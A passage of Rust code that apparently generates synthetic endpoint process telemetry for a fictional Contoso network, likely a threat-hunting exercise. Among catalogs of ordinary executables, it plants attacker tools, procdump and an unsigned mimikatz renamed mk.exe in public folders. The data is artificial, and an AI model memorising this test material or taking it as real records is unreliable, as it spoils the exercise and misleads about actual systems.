        "Microsoft",
    ),
    (
        "filecoauth",
        r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\{v}",
        "FileCoAuth.exe",
        MS,
        "Microsoft OneDrive",
        "Microsoft OneDriveFile Co-Authoring Executable",
        "FileCoAuth.exe",
        &["24.076.0414.0005", "24.070.0407.0003", "24.055.0317.0002"],
        "Microsoft",
    ),
    (
        "onedrive_updater",
        r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive",
        "OneDriveStandaloneUpdater.exe",
        MS,
        "Microsoft OneDrive",
        "Standalone Updater",
        "OneDriveStandaloneUpdater.exe",
        &["24.076.0414.0005", "24.070.0407.0003"],
        "Microsoft",
    ),
    (
        "code",
        r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code",
        "Code.exe",
        MS,
        "Visual Studio Code",
        "Visual Studio Code",
        "electron.exe",
        &["1.89.0", "1.88.1", "1.87.2"],
        "Microsoft",
    ),
    (
        "slack",
        r"C:\Users\{u}\AppData\Local\slack\app-{v}",
        "slack.exe",
        "Slack Technologies, Inc.",
        "Slack",
        "Slack",
        "slack.exe",
        &["4.37.101", "4.37.94", "4.36.140"],
        "ThirdParty",
    ),
    (
        "zoom",
        r"C:\Users\{u}\AppData\Roaming\Zoom\bin",
        "Zoom.exe",
        "Zoom Video Communications, Inc.",
        "Zoom",
        "Zoom Workplace",
        "Zoom.exe",
        &["6.0.2.33403", "5.17.11.34827"],
        "ThirdParty",
    ),
    (
        "python_user",
        r"C:\Users\{u}\AppData\Local\Programs\Python\Python312",
        "python.exe",
        "Python Software Foundation",
        "Python",
        "Python",
        "python.exe",
        &["3.12.3", "3.12.2"],
        "ThirdParty",
    ),
    (
        "python",
        r"C:\Program Files\Python311",
        "python.exe",
        "Python Software Foundation",
        "Python",
        "Python",
        "python.exe",
        &["3.11.9", "3.11.8"],
        "ThirdParty",
    ),
    (
        "git",
        r"C:\Program Files\Git\cmd",
        "git.exe",
        "The Git Development Community",
        "Git",
        "Git for Windows",
        "git.exe",
        &["2.45.0.windows.1", "2.44.0.windows.1"],
        "ThirdParty",
    ),
    (
        "git_mingw",
        r"C:\Program Files\Git\mingw64\bin",
        "git.exe",
        "The Git Development Community",
        "Git",
        "Git for Windows",
        "git.exe",
        &["2.45.0.windows.1", "2.44.0.windows.1"],
        "ThirdParty",
    ),
    (
        "git_remote",
        r"C:\Program Files\Git\mingw64\libexec\git-core",
        "git-remote-https.exe",
        "The Git Development Community",
        "Git",
        "Git for Windows",
        "git-remote-https.exe",
        &["2.45.0.windows.1", "2.44.0.windows.1"],
        "ThirdParty",
    ),
    (
        "node",
        r"C:\Program Files\nodejs",
        "node.exe",
        "Node.js",
        "Node.js",
        "Node.js JavaScript Runtime",
        "node.exe",
        &["20.12.2", "18.20.2"],
        "ThirdParty",
    ),
    (
        "java",
        r"C:\Program Files\Java\jre1.8.0_{v}\bin",
        "java.exe",
        "Oracle Corporation",
        "Java(TM) Platform SE 8",
        "Java(TM) Platform SE binary",
        "java.exe",
        &["411|8.0.4110.9", "401|8.0.4010.10", "391|8.0.3910.13"],
        "ThirdParty",
    ),
    (
        "jdk17",
        r"C:\Program Files\Java\jdk-{v}\bin",
        "java.exe",
        "Oracle Corporation",
        "Java(TM) Platform SE 17",
        "Java(TM) Platform SE binary",
        "java.exe",
        &["17.0.11", "17.0.10"],
        "ThirdParty",
    ),
    (
        "7zfm",
        r"C:\Program Files\7-Zip",
        "7zFM.exe",
        "Igor Pavlov",
        "7-Zip",
        "7-Zip File Manager",
        "7zFM.exe",
        &["23.01", "22.01"],
        "ThirdParty",
    ),
    ("7z", r"C:\Program Files\7-Zip", "7z.exe", "Igor Pavlov", "7-Zip", "7-Zip Console", "7z.exe", &["23.01", "22.01"], "ThirdParty"),
    (
        "notepadpp",
        r"C:\Program Files\Notepad++",
        "notepad++.exe",
        "Don HO don.h@free.fr",
        "Notepad++",
        "Notepad++",
        "notepad++.exe",
        &["8.6.5", "8.6.4"],
        "ThirdParty",
    ),
    (
        "acrord",
        r"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader",
        "AcroRd32.exe",
        "Adobe Systems Incorporated",
        "Adobe Acrobat Reader",
        "Adobe Acrobat Reader",
        "AcroRd32.exe",
        &["24.2.20687.0", "24.1.20643.0"],
        "ThirdParty",
    ),
    (
        "acrobat",
        r"C:\Program Files\Adobe\Acrobat DC\Acrobat",
        "Acrobat.exe",
        "Adobe Inc.",
        "Adobe Acrobat",
        "Adobe Acrobat",
        "Acrobat.exe",
        &["24.2.20687.0", "24.1.20643.0"],
        "ThirdParty",
    ),
    (
        "winrar",
        r"C:\Program Files\WinRAR",
        "WinRAR.exe",
        "Alexander Roshal",
        "WinRAR",
        "WinRAR archiver",
        "WinRAR.exe",
        &["7.00.0"],
        "ThirdParty",
    ),
    (
        "putty",
        r"C:\Program Files\PuTTY",
        "putty.exe",
        "Simon Tatham",
        "PuTTY suite",
        "SSH, Telnet, Rlogin, and SUPDUP client",
        "PuTTY",
        &["0.81.0.0", "0.80.0.0"],
        "ThirdParty",
    ),
    (
        "keepass",
        r"C:\Program Files\KeePass Password Safe 2",
        "KeePass.exe",
        "Dominik Reichl",
        "KeePass",
        "KeePass",
        "KeePass.exe",
        &["2.56.0.0"],
        "ThirdParty",
    ),
    (
        "vlc",
        r"C:\Program Files\VideoLAN\VLC",
        "vlc.exe",
        "VideoLAN",
        "VLC media player",
        "VLC media player",
        "vlc.exe",
        &["3.0.20"],
        "ThirdParty",
    ),
    (
        "mpcmdrun",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\{v}",
        "MpCmdRun.exe",
        MS,
        WINDOWS,
        "Microsoft Malware Protection Command Line Utility",
        "MpCmdRun.exe",
        DEFENDER_VERSIONS,
        "OsVendor",
    ),
    (
        "msmpeng",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\{v}",
        "MsMpEng.exe",
        MS,
        WINDOWS,
        "Antimalware Service Executable",
        "MsMpEng.exe",
        DEFENDER_VERSIONS,
        "OsVendor",
    ),
    (
        "mpdefendercore",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\{v}",
        "MpDefenderCoreService.exe",
        MS,
        WINDOWS,
        "Antimalware Core Service",
        "MpDefenderCoreService.exe",
        DEFENDER_VERSIONS,
        "OsVendor",
    ),
    (
        "nissrv",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\{v}",
        "NisSrv.exe",
        MS,
        WINDOWS,
        "Microsoft Network Realtime Inspection Service",
        "NisSrv.exe",
        DEFENDER_VERSIONS,
        "OsVendor",
    ),
    (
        "mssense",
        r"C:\Program Files\Windows Defender Advanced Threat Protection",
        "MsSense.exe",
        MS,
        WINDOWS,
        "Windows Defender Advanced Threat Protection Service Executable",
        "MsSense.exe",
        &["10.8760.19041.4291", "10.8750.22621.3447"],
        "OsVendor",
    ),
    (
        "sensecnc",
        r"C:\Program Files\Windows Defender Advanced Threat Protection",
        "SenseCncProxy.exe",
        MS,
        WINDOWS,
        "Windows Defender Advanced Threat Protection Communication Module",
        "SenseCncProxy.exe",
        &["10.8760.19041.4291", "10.8750.22621.3447"],
        "OsVendor",
    ),
    (
        "senseir",
        r"C:\Program Files\Windows Defender Advanced Threat Protection",
        "SenseIR.exe",
        MS,
        WINDOWS,
        "Windows Defender Advanced Threat Protection Automated Investigation & Remediation",
        "SenseIR.exe",
        &["10.8760.19041.4291", "10.8750.22621.3447"],
        "OsVendor",
    ),
    (
        "ccmexec",
        r"C:\Windows\CCM",
        "CcmExec.exe",
        MS,
        "System Center Configuration Manager",
        "Host Process for Microsoft Configuration Manager",
        "CcmExec.exe",
        &["5.00.9122.1000", "5.00.9106.1000"],
        "Microsoft",
    ),
    (
        "intune",
        r"C:\Program Files (x86)\Microsoft Intune Management Extension",
        "Microsoft.Management.Services.IntuneWindowsAgent.exe",
        MS,
        "Microsoft Intune Management Extension",
        "Microsoft Intune Management Extension",
        "Microsoft.Management.Services.IntuneWindowsAgent.exe",
        &["1.78.104.0", "1.77.106.0"],
        "Microsoft",
    ),
    (
        "agentexecutor",
        r"C:\Program Files (x86)\Microsoft Intune Management Extension",
        "AgentExecutor.exe",
        MS,
        "Microsoft Intune Management Extension",
        "AgentExecutor",
        "AgentExecutor.exe",
        &["1.78.104.0", "1.77.106.0"],
        "Microsoft",
    ),
    (
        "monitoringhost",
        r"C:\Program Files\Microsoft Monitoring Agent\Agent",
        "MonitoringHost.exe",
        MS,
        "System Center Operations Manager",
        "Microsoft Monitoring Agent Host Process",
        "MonitoringHost.exe",
        &["10.20.18069.0"],
        "Microsoft",
    ),
    (
        "azguest",
        r"C:\WindowsAzure\GuestAgent_{v}",
        "WindowsAzureGuestAgent.exe",
        MS,
        "Windows Azure Guest Agent",
        "Windows Azure Guest Agent",
        "WindowsAzureGuestAgent.exe",
        &["2.7.41491.1102_2024-04-10_041428|2.7.41491.1102", "2.7.41491.1083_2024-02-14_163455|2.7.41491.1083"],
        "Microsoft",
    ),
    (
        "gc_worker",
        r"C:\Packages\Plugins\Microsoft.GuestConfiguration.ConfigurationforWindows\{v}\dsc\GC",
        "gc_worker.exe",
        MS,
        "Microsoft Guest Configuration",
        "Guest Configuration Worker",
        "gc_worker.exe",
        &["1.29.82.0", "1.29.74.0"],
        "Microsoft",
    ),
    (
        "sqlservr",
        r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn",
        "sqlservr.exe",
        MS,
        "Microsoft SQL Server",
        "SQL Server Windows NT - 64 Bit",
        "SQLSERVR.EXE",
        &["2019.150.4360.2", "2019.150.4355.3"],
        "Microsoft",
    ),
    (
        "sqlceip",
        r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn",
        "sqlceip.exe",
        MS,
        "Microsoft SQL Server",
        "SQL Server CEIP service",
        "sqlceip.exe",
        &["2019.150.4360.2", "2019.150.4355.3"],
        "Microsoft",
    ),
    (
        "vmtoolsd",
        r"C:\Program Files\VMware\VMware Tools",
        "vmtoolsd.exe",
        "VMware, Inc.",
        "VMware Tools",
        "VMware Tools Core Service",
        "vmtoolsd.exe",
        &["12.3.5.46049", "12.1.5.20735"],
        "ThirdParty",
    ),
    (
        "dcu",
        r"C:\Program Files\Dell\CommandUpdate",
        "dcu-cli.exe",
        "Dell Inc.",
        "Dell Command | Update",
        "Dell Command | Update CLI",
        "dcu-cli.exe",
        &["5.2.0"],
        "ThirdParty",
    ),
    (
        "procdump",
        r"C:\Users\Public",
        "procdump64.exe",
        "Sysinternals - www.sysinternals.com",
        "ProcDump",
        "Sysinternals process dump utility",
        "procdump",
        &["11.0"],
        "Microsoft",
    ),
    (
        "mimikatz",
        r"C:\Users\Public\Music",
        "mk.exe",
        "gentilkiwi (Benjamin DELPY)",
        "mimikatz",
        "mimikatz for Windows",
        "mimikatz.exe",
        &["2.2.0.0"],
        "Unknown",
    ),
];

/// Installers users download: file, company, product, description.
const INSTALLERS: &[(&str, &str, &str, &str)] = &[
    ("ZoomInstallerFull.exe", "Zoom Video Communications, Inc.", "Zoom", "Zoom Installer"),
    ("VSCodeUserSetup-x64-1.88.1.exe", MS, "Visual Studio Code", "Visual Studio Code Setup"),
    ("npp.8.6.5.Installer.x64.exe", "Notepad++", "Notepad++", "Notepad++ : a free (GNU) source code editor"),
    ("ChromeSetup.exe", "Google LLC", "Google Update", "Google Update Setup"),
    ("Firefox Installer.exe", "Mozilla", "Firefox", "Firefox"),
    (
        "vc_redist.x64.exe",
        MS,
        "Microsoft Visual C++ 2015-2022 Redistributable (x64) - 14.38.33135",
        "Microsoft Visual C++ 2015-2022 Redistributable (x64) - 14.38.33135",
    ),
    ("Git-2.44.0-64-bit.exe", "The Git Development Community", "Git", "Git Setup"),
    ("python-3.12.3-amd64.exe", "Python Software Foundation", "Python 3.12.3 (64-bit)", "Python 3.12.3 (64-bit)"),
    ("7z2301-x64.exe", "Igor Pavlov", "7-Zip", "7-Zip Installer"),
    ("TeamViewer_Setup_x64.exe", "TeamViewer Germany GmbH", "TeamViewer", "TeamViewer 15"),
    ("AcroRdrDC2400220687_en_US.exe", "Adobe Inc.", "Adobe Acrobat Reader", "Adobe Self Extractor"),
    ("OneDriveSetup.exe", MS, "Microsoft OneDrive", "Microsoft OneDrive Setup"),
    ("winrar-x64-700.exe", "Alexander Roshal", "WinRAR", "WinRAR installer"),
    ("SlackSetup.exe", "Slack Technologies, Inc.", "Slack", "Slack Installer"),
    ("DellCommandUpdateApp_Setup.exe", "Dell Inc.", "Dell Command | Update", "Dell Command | Update installer"),
    ("WebEx.exe", "Cisco WebEx LLC", "Cisco Webex Meetings", "Cisco Webex Meetings Desktop App"),
];

/// One executable file: where it lies, what its version resource says, its hashes.
struct Image {
    file: String,
    /// FolderPath (the file's full path) in the three case styles: as installed, with
    /// `C:\WINDOWS\system32` as upgraded Windows 10 devices report it, and lower case.
    path: [String; 3],
    /// Where `{u}` (the user's profile folder) is in `path`.
    user_at: Option<usize>,
    company: String,
    product: String,
    version: String,
    internal: String,
    original: String,
    description: String,
    sha1: String,
    sha256: String,
    md5: String,
    size: i64,
    signer: &'static str,
    status: &'static str,
}

impl Image {
    #[allow(clippy::too_many_arguments)]
    fn new(
        file: &str,
        folder: &str,
        company: &str,
        product: &str,
        version: &str,
        internal: &str,
        original: &str,
        description: &str,
        id: u64,
        signer: &'static str,
        status: &'static str,
    ) -> Image {
        let full = if folder.is_empty() { file.to_string() } else { format!("{folder}\\{file}") };
        let upgraded = if let Some(rest) = full.strip_prefix(r"C:\Windows\") {
            let rest = rest.strip_prefix("System32").map(|r| format!("system32{r}")).unwrap_or_else(|| rest.to_string());
            format!(r"C:\WINDOWS\{rest}")
        } else {
            full.clone()
        };
        let lower = full.to_lowercase();
        let user_at = full.find("{u}");
        Image {
            file: file.to_string(),
            path: [full, upgraded, lower],
            user_at,
            company: company.to_string(),
            product: product.to_string(),
            version: version.to_string(),
            internal: internal.to_string(),
            original: original.to_string(),
            description: description.to_string(),
            sha1: hex_string(id, 40),
            sha256: hex_string(id ^ 0x256, 64),
            md5: hex_string(id ^ 0x5, 32),
            size: 16_384 + (mix(id ^ 0x512e) % 4_000_000) as i64 / 8 * 8,
            signer,
            status,
        }
    }

    /// Appends the path in case style `style` with `user`'s profile folder.
    fn push_path(&self, s: &mut String, style: usize, user: &str) {
        let p = &self.path[style];
        match self.user_at {
            Some(at) => {
                s.push_str(&p[..at]);
                s.push_str(user);
                s.push_str(&p[at + 3..]);
            }
            None => s.push_str(p),
        }
    }
}

struct Entry {
    ids: Vec<usize>,
    /// An OS binary: the device's build picks the image; else the device's version of the app.
    os: bool,
    salt: u64,
}

/// Temporary executables by kind: per-user random names in `%TEMP%`, random names under
/// `C:\Windows\Temp`, installers in Downloads, Inno Setup `is-XXXXX.tmp` stubs.
const TEMP_KINDS: usize = 4;
const TEMP_PER_KIND: u64 = 750;

struct Catalog {
    images: Vec<Image>,
    keys: HashMap<&'static str, Entry>,
    temp: [Vec<Image>; TEMP_KINDS],
}

impl Catalog {
    fn new() -> Catalog {
        let mut images = Vec::new();
        let mut keys: HashMap<&'static str, Entry> = HashMap::new();
        for &(file, dir, original, description) in SYS {
            let key: &'static str = if dir == "SysWOW64" {
                match file {
                    "msiexec.exe" => "wow64:msiexec.exe",
                    "rundll32.exe" => "wow64:rundll32.exe",
                    _ => "wow64:cmd.exe",
                }
            } else {
                file
            };
            let mut ids = Vec::new();
            for &(build, _) in BUILDS {
                let id = hash_str(&format!("{dir}\\{file}|{build}"));
                let dir = dir.replace("{b}", &format!("{build}_none_{}", hex_string(id, 16)));
                let folder = if dir.is_empty() { r"C:\Windows".to_string() } else { format!(r"C:\Windows\{dir}") };
                let internal = file.rsplit_once('.').map_or(file, |(stem, _)| stem);
                ids.push(images.len());
                images.push(Image::new(file, &folder, MS, WINDOWS, build, internal, original, description, id, "OsVendor", "Valid"));
            }
            keys.insert(key, Entry { ids, os: true, salt: hash_str(key) });
        }
        for &(key, dir, file, company, product, description, original, versions, signer) in APPS {
            let mut ids = Vec::new();
            for v in versions {
                let (folder_part, version) = v.split_once('|').unwrap_or((v, v));
                let id = hash_str(&format!("{key}|{v}"));
                let folder = dir.replace("{v}", folder_part);
                let internal = original.rsplit_once('.').map_or(original, |(stem, _)| stem);
                let status = if signer == "Unknown" { "Unsigned" } else { "Valid" };
                ids.push(images.len());
                images.push(Image::new(file, &folder, company, product, version, internal, original, description, id, signer, status));
            }
            keys.insert(key, Entry { ids, os: false, salt: hash_str(key) });
        }
        let temp = std::array::from_fn(|kind| (0..TEMP_PER_KIND).map(|i| temp_image(kind, i)).collect());
        Catalog { images, keys, temp }
    }

    /// The image of `key` on `dev`: its build of an OS binary, its version of an application
    /// (newer versions more often).
    fn get(&self, key: &str, dev: &Device) -> &Image {
        let e = self.keys.get(key).unwrap_or_else(|| panic!("no executable {key} in the catalog"));
        let n = e.ids.len() as u64;
        let i = if e.os {
            dev.build % e.ids.len()
        } else {
            let h = mix(dev.salt ^ e.salt);
            ((h % n).min((h >> 32) % n)) as usize
        };
        &self.images[e.ids[i]]
    }

    /// A temporary executable of `kind`: mostly one of the few a device has, now and then any.
    fn temp(&self, rng: &mut Rng, dev: &Device, kind: usize) -> &Image {
        let pool = &self.temp[kind];
        let i = if rng.chance(0.8) {
            (mix(dev.salt ^ kind as u64).wrapping_add(rng.below(3) * 131)) % TEMP_PER_KIND
        } else {
            rng.below(TEMP_PER_KIND)
        };
        &pool[i as usize]
    }
}

fn temp_image(kind: usize, i: u64) -> Image {
    let id = mix(0x7e3d_0000 + (kind as u64) * 1_000_003 + i);
    let mut name = String::new();
    let mut dir = String::new();
    match kind {
        0 => {
            alnum(&mut name, id, 6 + (id % 5) as usize, false);
            name.push_str(".exe");
            dir.push_str(r"C:\Users\{u}\AppData\Local\Temp");
            if id.is_multiple_of(3) {
                dir.push_str(r"\7zS");
                hex(&mut dir, id ^ 7, 8, true);
            }
        }
        1 => {
            alnum(&mut name, id, 8, id.is_multiple_of(2));
            name.push_str(".exe");
            dir.push_str(r"C:\Windows\Temp\");
            if id.is_multiple_of(2) {
                dir.push('{');
                guid(&mut dir, id ^ 3, true);
                dir.push('}');
            } else {
                alnum(&mut dir, id ^ 5, 6, false);
            }
        }
        2 => {
            let (file, company, product, description) = INSTALLERS[(i as usize) % INSTALLERS.len()];
            let copy = i as usize / INSTALLERS.len() % 3;
            let file = match copy {
                0 => file.to_string(),
                n => file.replacen(".exe", &format!(" ({n}).exe"), 1),
            };
            let version = format!("{}.{}.{}", 1 + id % 20, id % 10, id % 1000);
            return Image::new(
                &file,
                r"C:\Users\{u}\Downloads",
                company,
                product,
                &version,
                "",
                "",
                description,
                mix(id ^ (i % 48)),
                "ThirdParty",
                "Valid",
            );
        }
        _ => {
            name.push_str(["setup", "install", "update", "Setup", "lightshot-setup", "driver_update"][(id % 6) as usize]);
            name.push_str(".tmp");
            dir.push_str(r"C:\Users\{u}\AppData\Local\Temp\is-");
            alnum(&mut dir, id ^ 9, 5, true);
            dir.push_str(".tmp");
        }
    }
    Image::new(&name, &dir, "", "", "", "", "", "", id, "None", "Unsigned")
}

// ---------------------------------------------------------------------------------------------
// Devices and accounts

const DEPARTMENTS: &[&str] = &["fin", "hr", "eng", "ops", "sales", "mkt", "it", "lgl", "rnd", "sup"];
const SERVER_ROLES: &[&str] = &["app", "web", "sql", "file", "dc", "print", "rds", "mgmt"];
const FIRST: &[&str] = &[
    "james",
    "mary",
    "john",
    "patricia",
    "robert",
    "jennifer",
    "michael",
    "linda",
    "william",
    "elizabeth",
    "david",
    "barbara",
    "richard",
    "susan",
    "joseph",
    "jessica",
    "thomas",
    "sarah",
    "charles",
    "karen",
    "daniel",
    "nancy",
    "matthew",
    "lisa",
    "anthony",
    "betty",
    "mark",
    "sandra",
    "paul",
    "ashley",
    "steven",
    "kim",
    "andrew",
    "emily",
    "joshua",
    "donna",
    "kevin",
    "michelle",
    "brian",
    "carol",
    "anna",
    "lukas",
    "sofia",
    "mateo",
    "yuki",
    "wei",
    "priya",
    "arjun",
    "fatima",
    "omar",
];
const LAST: &[&str] = &[
    "smith",
    "johnson",
    "williams",
    "brown",
    "jones",
    "garcia",
    "miller",
    "davis",
    "rodriguez",
    "martinez",
    "hernandez",
    "lopez",
    "gonzalez",
    "wilson",
    "anderson",
    "thomas",
    "taylor",
    "moore",
    "jackson",
    "martin",
    "lee",
    "perez",
    "thompson",
    "white",
    "harris",
    "sanchez",
    "clark",
    "ramirez",
    "lewis",
    "robinson",
    "walker",
    "young",
    "allen",
    "king",
    "wright",
    "scott",
    "torres",
    "nguyen",
    "hill",
    "flores",
    "green",
    "adams",
    "nelson",
    "baker",
    "hall",
    "rivera",
    "campbell",
    "mitchell",
    "carter",
    "roberts",
    "mueller",
    "schmidt",
    "tanaka",
    "chen",
    "patel",
    "kumar",
    "silva",
    "rossi",
    "novak",
    "kowalski",
];
const DOMAIN_SID: &str = "S-1-5-21-1004336348-1177238915-682003330";

struct Device {
    name: String,
    id: String,
    server: bool,
    /// Index in `BUILDS`.
    build: usize,
    salt: u64,
    boot: i64,
    /// The primary user (workstations) or administrator (servers), an index in `World::users`.
    user: usize,
    ip: String,
    /// NetBIOS name, as Defender reports an RDP client.
    short: String,
}

struct User {
    name: String,
    sid: String,
    upn: String,
    object_id: String,
}

struct World {
    devices: Vec<Device>,
    users: Vec<User>,
    /// `users[admins..]` are the administrators' `adm-` accounts.
    admins: usize,
}

/// A device's name and role depend on its index only (not the seed), so the plants can be
/// named in the documentation.
fn device_name(i: usize) -> (String, bool) {
    if i.is_multiple_of(10) {
        (format!("srv-{}-{i:05}.corp.contoso.com", SERVER_ROLES[(i / 10) % SERVER_ROLES.len()]), true)
    } else {
        (format!("ws-{}-{i:05}.corp.contoso.com", DEPARTMENTS[(i / 7) % DEPARTMENTS.len()]), false)
    }
}

fn user_name(i: usize) -> String {
    let last = LAST[i % LAST.len()];
    let first = FIRST[(i / LAST.len()) % FIRST.len()];
    let n = i / (LAST.len() * FIRST.len());
    if n == 0 { format!("{first}.{last}") } else { format!("{first}.{last}{n}") }
}

impl World {
    fn new(devices: usize, seed: u64) -> World {
        let n_users = (devices * 9 / 10).max(1);
        let n_admins = (devices / 100).clamp(5, 300);
        let mut users: Vec<User> = (0..n_users + n_admins)
            .map(|i| {
                let name = if i < n_users { user_name(i) } else { format!("adm-{}", user_name((i - n_users) * 7 + 3)) };
                User {
                    sid: format!("{DOMAIN_SID}-{}", 1_105 + i),
                    upn: format!("{name}@contoso.com"),
                    object_id: guid_string(hash_str(&name) ^ seed, false),
                    name,
                }
            })
            .collect();
        users.shrink_to_fit();
        let devices = (0..devices)
            .map(|i| {
                let (name, server) = device_name(i);
                let salt = mix(seed ^ mix(i as u64 + 1));
                let build = if server { 5 + (salt % 3) as usize } else { [0, 0, 0, 1, 1, 2, 3, 3, 3, 4][(salt % 10) as usize] };
                Device {
                    id: hex_string(salt ^ 0xdee1, 40),
                    short: name.split('.').next().unwrap_or_default().to_uppercase(),
                    name,
                    server,
                    build,
                    salt,
                    boot: END - HOURS * HOUR - ((mix(salt ^ 0xb007) % (20 * 24 * 3600)) as i64) * SECOND,
                    user: if server {
                        n_users + (mix(salt ^ 0xad) % n_admins as u64) as usize
                    } else {
                        (mix(salt ^ 0x05e5) % n_users as u64) as usize
                    },
                    ip: format!("10.{}.{}.{}", 1 + i / 62_500, (i / 250) % 250, 10 + i % 250),
                }
            })
            .collect();
        World { devices, users, admins: n_users }
    }
}

#[derive(Clone, Copy)]
struct Acct<'a> {
    domain: &'a str,
    name: &'a str,
    sid: &'a str,
    upn: &'a str,
    object_id: &'a str,
    logon: i64,
}

const SYSTEM: Acct<'static> = Acct { domain: "nt authority", name: "system", sid: "S-1-5-18", upn: "", object_id: "", logon: 999 };
const LOCAL_SERVICE: Acct<'static> =
    Acct { domain: "nt authority", name: "local service", sid: "S-1-5-19", upn: "", object_id: "", logon: 997 };
const NETWORK_SERVICE: Acct<'static> =
    Acct { domain: "nt authority", name: "network service", sid: "S-1-5-20", upn: "", object_id: "", logon: 996 };

/// A process of an event (the created one or the one that created it).
#[derive(Clone, Copy)]
struct Proc<'a> {
    img: &'a Image,
    pid: i64,
    created: i64,
    acct: Acct<'a>,
    integrity: &'static str,
    elevation: &'static str,
    session: i64,
    /// Case style of its FolderPath.
    style: usize,
    /// Profile folder of a per-user executable.
    user: &'a str,
}

/// One `ProcessCreated` row; the command lines and, when set, the paths are in `Scratch`.
struct Ev<'a> {
    child: Proc<'a>,
    parent: Proc<'a>,
    grandparent: &'a str,
    gp_pid: i64,
    gp_created: i64,
    child_path_set: bool,
    parent_path_set: bool,
}

#[derive(Default)]
struct Scratch {
    cmd: String,
    parent_cmd: String,
    path: String,
    parent_path: String,
    extra: String,
}

impl Scratch {
    fn clear(&mut self) {
        self.cmd.clear();
        self.parent_cmd.clear();
        self.path.clear();
        self.parent_path.clear();
        self.extra.clear();
    }
}

/// A FolderPath case style: mostly as installed, some `C:\WINDOWS\system32`, a few lower case.
fn style(rng: &mut Rng, dev: &Device) -> usize {
    let r = rng.below(100);
    let upgraded = if dev.build < 3 { 25 } else { 6 };
    if r < 100 - upgraded - 5 {
        0
    } else if r < 95 {
        1
    } else {
        2
    }
}

fn sys_proc<'a>(img: &'a Image, pid: i64, created: i64, acct: Acct<'a>, style: usize) -> Proc<'a> {
    Proc { img, pid, created, acct, integrity: "System", elevation: "TokenElevationTypeDefault", session: 0, style, user: "" }
}

#[allow(clippy::too_many_arguments)]
fn user_proc<'a>(
    img: &'a Image,
    pid: i64,
    created: i64,
    acct: Acct<'a>,
    user: &'a str,
    elevated: bool,
    session: i64,
    style: usize,
) -> Proc<'a> {
    Proc {
        img,
        pid,
        created,
        acct,
        integrity: if elevated { "High" } else { "Medium" },
        elevation: if elevated { "TokenElevationTypeFull" } else { "TokenElevationTypeLimited" },
        session,
        style,
        user,
    }
}

// ---------------------------------------------------------------------------------------------
// The background: process trees as on real Windows

const START: i64 = END - HOURS * HOUR;

fn sysdir(dev: &Device) -> &'static str {
    if dev.build < 3 { r"C:\WINDOWS\system32" } else { r"C:\Windows\system32" }
}

fn windir(dev: &Device) -> &'static str {
    if dev.build < 3 { r"C:\WINDOWS" } else { r"C:\Windows" }
}

/// A random moment `lo..=hi` seconds before `t`.
fn before(rng: &mut Rng, t: i64, lo: i64, hi: i64) -> i64 {
    t - rng.range(lo, hi) * SECOND - rng.below(SECOND as u64) as i64
}

/// The user's logon on `dev` before `t` (one a day, in the morning).
fn logon_time(dev: &Device, u: usize, t: i64) -> i64 {
    let day = (t - START).div_euclid(DAY);
    let at = START + day * DAY + 6 * HOUR + ((mix(dev.salt ^ (u as u64) << 20 ^ day as u64) % (3 * 3600)) as i64) * SECOND;
    if at < t - MINUTE { at } else { at - DAY }
}

fn quoted(s: &mut String, img: &Image, user: &str) {
    s.push('"');
    img.push_path(s, 0, user);
    s.push('"');
}

const FEATURES: &[&str] = &[
    "msEdgeSidebarV2",
    "msUndersideButton",
    "msWebAssist",
    "AutofillServerCommunication",
    "BackForwardCache",
    "CalculateNativeWinOcclusion",
    "DocumentPictureInPictureAPI",
    "EdgeCollectionsV2",
    "msAutoplayUserSettingBlockOption",
    "msEdgeTranslate",
    "msImplicitSignin",
    "msShoppingExpressCheckout",
    "PartitionedCookies",
    "PrivacySandboxSettings4",
    "ThirdPartyStoragePartitioning",
    "UseEcoQoSForBackgroundProcess",
    "WinUseBrowserSpellChecker",
    "msAbydos",
    "msEdgeDevToolsWdpRemoteDebugging",
    "msSmartScreenProtection",
    "SpareRendererForSitePerProcess",
    "WebRtcHideLocalIpsWithMdns",
    "msEnhancedTextContrast",
    "msForceBrowserSignIn",
    "msWebOOUI",
    "ProcessPerSiteUpToMainFrameThreshold",
    "RendererCodeIntegrity",
    "msAllowAutoOpenForPdfInBrowser",
    "msEdgeAutofillSuggestionsWithVirtualKeyboard",
    "msEdgeShoppingUI",
    "msEdgeFluentOverlayScrollbar",
    "msOverlayScrollbarWinStyle",
    "V8MemoryReducer",
    "V8Sparkplug",
    "msTabGroupsCollapseFreezing",
    "msWindowsTaskManager",
    "GlobalMediaControls",
    "MediaFoundationD3D11VideoCapture",
    "msSecureDnsOverHttps",
    "CookieDeprecationFacilitatedTesting",
];

const DLLHOST_CLSIDS: &[&str] = &[
    "{3EB3C877-1F16-487C-9050-104DBCD66683}",
    "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
    "{776DBC8D-7347-478C-8D71-791E12EF49D8}",
    "{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}",
    "{9E175B6D-F52A-11D8-B9A5-505054503030}",
    "{4AA0A5C4-1B9B-4F2E-99D7-99C6AEC83474}",
    "{7966B4D8-4FDC-4126-A10B-39A3209AD251}",
    "{06622D85-6856-4460-8DE1-A81921B41C4B}",
    "{1EF75F33-893B-4E8F-9655-C3D602BA4897}",
    "{338B40F9-9D10-49BC-B2C4-A7FE05C6E08F}",
];

/// svchost.exe services: group, service, account (0 SYSTEM, 1 LOCAL SERVICE, 2 NETWORK SERVICE).
const SERVICES: &[(&str, &str, u8)] = &[
    ("netsvcs", "Schedule", 0),
    ("netsvcs", "gpsvc", 0),
    ("netsvcs", "ProfSvc", 0),
    ("netsvcs", "Winmgmt", 0),
    ("netsvcs", "BITS", 0),
    ("netsvcs", "wuauserv", 0),
    ("netsvcs", "UsoSvc", 0),
    ("netsvcs", "lfsvc", 0),
    ("netsvcs", "Appinfo", 0),
    ("netsvcs", "ShellHWDetection", 0),
    ("netsvcs", "SENS", 0),
    ("netsvcs", "iphlpsvc", 0),
